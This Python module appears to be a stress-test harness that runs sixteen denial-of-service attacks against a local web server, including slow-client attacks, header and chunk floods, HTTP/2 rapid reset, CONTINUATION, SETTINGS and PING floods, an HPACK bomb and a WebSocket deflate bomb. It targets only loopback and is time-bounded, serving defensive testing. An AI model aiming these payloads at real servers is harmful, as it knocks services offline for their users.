"""Clients that mean no good, each for some seconds, against one port of the loopback: bounded in connections and in time.

Each returns a line that says what it did, and what the server made of it.
"""

from __future__ import annotations

import os
import re
import resource
import selectors
import socket
import struct
import subprocess
import time
import zlib
from collections.abc import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(port: int, receive_buffer: int = 0) -> socket.socket:
    connection = socket.socket()
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.settimeout(10)
    connection.connect(("127.0.0.1", port))
    return connection


# Slow clients, by slowhttptest.

def slow(port: int, seconds: int, path: str, *options: str) -> str:
    url = f"http://127.0.0.1:{port}{path}"
    command = ["slowhttptest", *options, "-l", str(seconds), "-u", url, "-c", "1000", "-r", "500", "-p", "3"]
    said = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=seconds + 60).stdout
    closed = re.findall(r"closed: *(\d+)", re.sub(r"\x1b\[[0-9;]*[A-Za-z]", "", said))
    return f"1,000 connections, {closed[-1] if closed else '?'} of them ended by the server"


def slow_heads(port: int, seconds: int) -> str:
    return slow(port, seconds, "/plain", "-H", "-i", "1", "-t", "GET", "-x", "24")


def slow_bodies(port: int, seconds: int) -> str:
    return slow(port, seconds, "/echo", "-B", "-i", "1", "-s", "8192", "-t", "POST", "-x", "10")


def slow_readers(port: int, seconds: int, path: str = "/bytes/1000000") -> str:
    """Of a megabyte that the handler makes for each of them: 1,000 of these are 1,000 MB, whatever the server does."""
    return slow(port, seconds, path, "-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3")


def slow_readers_of_one(port: int, seconds: int) -> str:
    """Of 8 MB that all of them share: what is more is the server's."""
    return slow_readers(port, seconds, "/shared")


def slow_readers_of_streams(port: int, seconds: int) -> str:
    """Of a megabyte that is made while it is sent."""
    return slow_readers(port, seconds, "/stream/1")


def silent(port: int, seconds: int) -> str:
    """As many connections as descriptors allow, 10,000 at most, that say nothing."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    count = min(10_000, hard - 200)
    end = time.monotonic() + seconds
    connections, opened = [], 0
    while opened < count and time.monotonic() < end:
        try:
            connections.append(connect(port))
            opened += 1
        except OSError:
            time.sleep(0.05)
    time.sleep(max(0, end - time.monotonic()))
    ended = sum(1 for connection in connections if has_ended(connection))
    for connection in connections:
        connection.close()
    return f"{opened:,} connections, {ended:,} of them ended by the server"


def has_ended(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        return connection.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


# Floods: as much as a connection takes, and another connection when the server has ended it.

def flood(port: int, seconds: int, beginning: bytes, more: Callable[[int], bytes], connections: int = 8,
          reads: bool = True) -> str:
    """Sends `beginning`, and then what `more` says of how often it was asked, on some connections at once."""
    end = time.monotonic() + seconds
    opened = sent = 0
    states: dict[socket.socket, list] = {}
    selector = selectors.DefaultSelector()

    def begin() -> None:
        nonlocal opened
        try:
            connection = connect(port)
        except OSError:
            return
        connection.setblocking(False)
        states[connection] = [beginning, 0]
        selector.register(connection, selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0))
        opened += 1

    def finish(connection: socket.socket) -> None:
        selector.unregister(connection)
        del states[connection]
        connection.close()

    while time.monotonic() < end:
        while len(states) < connections:
            before = len(states)
            begin()
            if len(states) == before:
                time.sleep(0.05)
                break
        for key, events in selector.select(0.1):
            connection, state = key.fileobj, states[key.fileobj]
            try:
                if events & selectors.EVENT_READ and connection.recv(65_536) == b"":
                    finish(connection)
                    continue
                if events & selectors.EVENT_WRITE:
                    if not state[0]:
                        state[0] = more(state[1])
                        state[1] += 1
                    count = connection.send(state[0])
                    state[0] = state[0][count:]
                    sent += count
            except BlockingIOError:
                pass
            except OSError:
                finish(connection)
    for connection in list(states):
        finish(connection)
    return f"{sent / 1e6:,.0f} MB, {opened:,} connections, of which the server ended all but {connections}"


def endless_fields(port: int, seconds: int) -> str:
    line = b"X-Flood: " + b"a" * 100 + b"\r\n"
    return flood(port, seconds, b"GET /plain HTTP/1.1\r\nHost: a\r\n", lambda _: line * 50)


def endless_target(port: int, seconds: int) -> str:
    return flood(port, seconds, b"GET /", lambda _: b"a" * 16_384)


def tiny_chunks(port: int, seconds: int) -> str:
    head = b"POST /count HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    return flood(port, seconds, head, lambda _: (b"1;" + b"a" * 900 + b"\r\nb\r\n") * 16)


def unread_answers(port: int, seconds: int) -> str:
    return flood(port, seconds, b"", lambda _: b"GET /bytes/100000 HTTP/1.1\r\nHost: a\r\n\r\n" * 100, reads=False)


# HTTP/2.

def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = b"\x82\x86" + literal(b":path", b"/sleep/1000") + literal(b":authority", b"a")
BEGINNING = PREFACE + frame(4, 0, 0)


def rapid_reset(port: int, seconds: int) -> str:
    def more(number: int) -> bytes:
        streams = range(2 * 50 * number + 1, 2 * 50 * (number + 1), 2)
        return b"".join(frame(1, 5, stream, HEAD) + frame(3, 0, stream, b"\0\0\0\x08") for stream in streams)
    return flood(port, seconds, BEGINNING, more)


def endless_continuation(port: int, seconds: int) -> str:
    piece = literal(b"x", b"a" * 120) * 100
    return flood(port, seconds, BEGINNING + frame(1, 1, 1, HEAD), lambda _: frame(9, 0, 1, piece))


def settings_flood(port: int, seconds: int) -> str:
    return flood(port, seconds, BEGINNING, lambda _: frame(4, 0, 0, b"\0\3\0\0\0\x64") * 500)


def ping_flood(port: int, seconds: int) -> str:
    return flood(port, seconds, BEGINNING, lambda _: frame(6, 0, 0, b"12345678") * 500, reads=False)


def hpack_bomb(port: int, seconds: int) -> str:
    """A field of 4,000 bytes that is remembered, and named again by a byte each: every head would be 60 MB."""
    field = b"\x40\x01x\x7f" + bytes([(3_900 - 127) & 0x7f | 0x80, (3_900 - 127) >> 7]) + b"a" * 3_900

    def more(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(1, 1, stream, HEAD + field) + frame(9, 4, stream, b"\xbe" * 15_000)
    return flood(port, seconds, BEGINNING, more)


# WebSockets.

def deflate_bomb(port: int, seconds: int) -> str:
    """Messages of 64 MB that compress to 64 KB."""
    compressor = zlib.compressobj(9, wbits=-15)
    packed = (compressor.compress(bytes(64 << 20)) + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]
    message = b"\xc2\xff" + struct.pack(">Q", len(packed)) + b"\0\0\0\0" + packed
    head = (b"GET /socket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
    return flood(port, seconds, head, lambda _: message)


ATTACKS: dict[str, Callable[[int, int], str]] = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "slow readers": slow_readers,
    "slow readers of one answer": slow_readers_of_one,
    "slow readers of streams": slow_readers_of_streams,
    "silent connections": silent,
    "endless fields": endless_fields,
    "endless target": endless_target,
    "tiny chunks": tiny_chunks,
    "unread answers": unread_answers,
    "h2 rapid reset": rapid_reset,
    "h2 continuation": endless_continuation,
    "h2 settings": settings_flood,
    "h2 pings": ping_flood,
    "h2 HPACK bomb": hpack_bomb,
    "deflate bomb": deflate_bomb,
}


def run(name: str, port: int, seconds: int) -> str:
    """In a process of its own, behind everybody else."""
    os.nice(10)
    return ATTACKS[name](port, seconds)
